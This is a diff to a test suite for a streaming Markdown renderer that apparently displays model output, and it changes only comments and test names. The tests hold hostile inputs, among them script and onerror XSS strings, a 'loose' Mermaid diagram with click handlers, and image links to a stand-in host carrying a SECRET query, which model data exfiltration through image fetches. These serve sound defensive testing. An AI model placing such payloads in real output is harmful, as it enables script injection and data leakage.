@@ -8,12 +8,12 @@ const FORBIDDEN =
 const HARMLESS = /^(https?|mailto):/;
 
 beforeAll(async () => {
-  // The parser is loaded on demand; these tests are about what it makes of text.
+  // The parser is loaded on demand; load it before these tests.
   await import("./markdown-block");
 });
 
 async function show(text: string) {
-  // The parser comes lazily; what is shown meanwhile is plain text, which these tests are not about.
+  // The parser is loaded lazily. Wait for it, because these tests are not about the plain text shown until then.
   const first = render(<Markdown text="*ready*" />);
   await waitFor(() => expect(screen.getByText("ready").tagName).toBe("EM"));
   first.unmount();
@@ -51,7 +51,7 @@ async function stream(text: string): Promise<HTMLElement> {
   return view.container;
 }
 
-describe("A48: hostile markup stays text, also while it streams in one sign at a time", () => {
+describe("A48: hostile markup stays text, also while it streams in character by character", () => {
   it.each([
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
@@ -73,7 +73,7 @@ describe("A48: hostile markup stays text, also while it streams in one sign at a
     expect(container.querySelectorAll('a[href*="script:"], a[href^="data:"]')).toHaveLength(0);
   });
 
-  it("shows the markup itself, so that a reader sees what was written", async () => {
+  it("shows the markup as text", async () => {
     await show("before <b onclick=x>bold</b>");
     expect(screen.getByText("<b onclick=x>")).toBeInTheDocument();
   });
@@ -107,15 +107,15 @@ describe("A49: formulas can neither link, load nor explode", () => {
     expect(container.querySelector("code")).toBeVisible();
   });
 
-  it("bounds sizes and leaves overlong formulas alone", async () => {
+  it("limits sizes and does not typeset overlong formulas", async () => {
     const { container } = await show(`$\\rule{9999em}{9999em}$ and $${"x+".repeat(2_000)}x$`);
     await waitFor(() => expect(container.querySelectorAll(".katex")).toHaveLength(1));
     expect(container.innerHTML).not.toContain("9999em;");
   });
 });
 
-describe("writing from right to left", () => {
-  it("goes by the first letter of each part, and code and formulas stay as they are", async () => {
+describe("right-to-left text", () => {
+  it("takes its direction from the first letter of each block, except in code and formulas", async () => {
     const { container } = await show(
       "`npm` שלום\n\nHello\n\n- אחת\n\n  עוד\n- שתיים\n\n> ציטוט\n\n```py\nx = 1\n```\n\n$x$ חמש",
     );
@@ -128,7 +128,7 @@ describe("writing from right to left", () => {
       ["DIV", "ltr"],
       ["P", "auto"],
     ]);
-    // What says its direction itself does not count for what it stands in.
+    // Elements with their own direction do not count for the block around them.
     expect(container.querySelectorAll("li [dir], li[dir], blockquote [dir]")).toHaveLength(0);
     expect(screen.getByText("npm")).toHaveAttribute("dir", "ltr");
     expect(screen.getByText("x", { selector: "code" }).parentElement).toHaveAttribute("dir", "ltr");
@@ -136,7 +136,7 @@ describe("writing from right to left", () => {
 });
 
 describe("A50: diagrams are code", () => {
-  it("shows Mermaid as it was written", async () => {
+  it("shows Mermaid source", async () => {
     const diagram =
       "```mermaid\n%%{init: {'securityLevel':'loose'}}%%\ngraph TD; A[<img src=http://sink>]-->B\nclick A call alert()\n```";
     const container = await stream(diagram);
@@ -146,7 +146,7 @@ describe("A50: diagrams are code", () => {
 });
 
 describe("A55: nothing is fetched", () => {
-  it("turns pictures into words that lead there only when clicked", async () => {
+  it("turns images into links", async () => {
     const container = await stream(
       "![chart](http://sink.example/p?q=SECRET) ![x](data:image/png;base64,AAAA) ![y][r]\n\n[r]: http://sink.example/2\n",
     );
@@ -157,7 +157,7 @@ describe("A55: nothing is fetched", () => {
     expect(screen.getByText("Image: x").closest("a")).toBeNull();
   });
 
-  it("shows no picture of this site either", async () => {
+  it("shows no image of this site either", async () => {
     expectInert((await show("![x](/api/images/1)")).container, "");
   });
 });
@@ -176,7 +176,7 @@ describe("long and strange texts", () => {
     ["spaced quotes", `${"> ".repeat(2_000)}x`],
     ["many blocks", "para *x* [l](http://a.b)\n\n".repeat(2_000)],
   ])("do not freeze the page: %s", async (_, text) => {
-    // Time of this process alone: a busy machine is slow, not wrong.
+    // CPU time of this process, so that a busy machine does not fail the test.
     const before = process.cpuUsage();
     const { container } = await show(text);
     const { user, system } = process.cpuUsage(before);
@@ -213,13 +213,13 @@ describe("what models usually write", () => {
     expect(container.querySelector("hr, blockquote")).not.toBeNull();
   });
 
-  it("has formulas in both spellings, and money", async () => {
+  it("has formulas in both notations, and money", async () => {
     const { container } = await show("\\(a+b\\) and $c$ cost $5 or $10.\n\n\\[\nx^2\n\\]\n");
     await waitFor(() => expect(container.querySelectorAll(".katex")).toHaveLength(3));
     expect(container).toHaveTextContent("cost $5 or $10.");
   });
 
-  it("has code that is colored once complete, and can be copied", async () => {
+  it("has code that is highlighted once complete, and can be copied", async () => {
     const user = userEvent.setup();
     const { container, rerender } = await show("```python\nimport os");
     expect(container.querySelector("[class^=hljs]")).toBeNull();
@@ -232,7 +232,7 @@ describe("what models usually write", () => {
   });
 });
 
-it("colors code that was never closed like any other, once nothing more comes", async () => {
+it("highlights unclosed code once the text is complete", async () => {
   const open = "```js\nconst x = 1;";
   const view = await show(open);
   expect(view.container.querySelector("code span")).toBeNull();
